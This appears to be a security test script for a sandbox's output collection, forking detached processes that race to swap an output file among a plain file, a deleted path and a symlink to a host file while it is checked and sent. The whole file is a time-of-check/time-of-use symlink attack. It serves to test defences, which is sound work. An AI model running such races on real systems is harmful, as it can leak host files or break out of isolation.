"""Swap an output between a file, a link and a folder while it is looked at and sent."""

import os

from attacker import PLAN, attempt

for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        while True:
            for act in (
                lambda: open("/data/outputs/metrics.json", "wb").close(),
                lambda: os.unlink("/data/outputs/metrics.json"),
                lambda: os.symlink(PLAN["host_file"], "/data/outputs/metrics.json"),
                lambda: os.unlink("/data/outputs/metrics.json"),
            ):
                try:
                    act()
                except OSError:
                    continue
with attempt():
    open("/data/outputs/second", "wb").close()
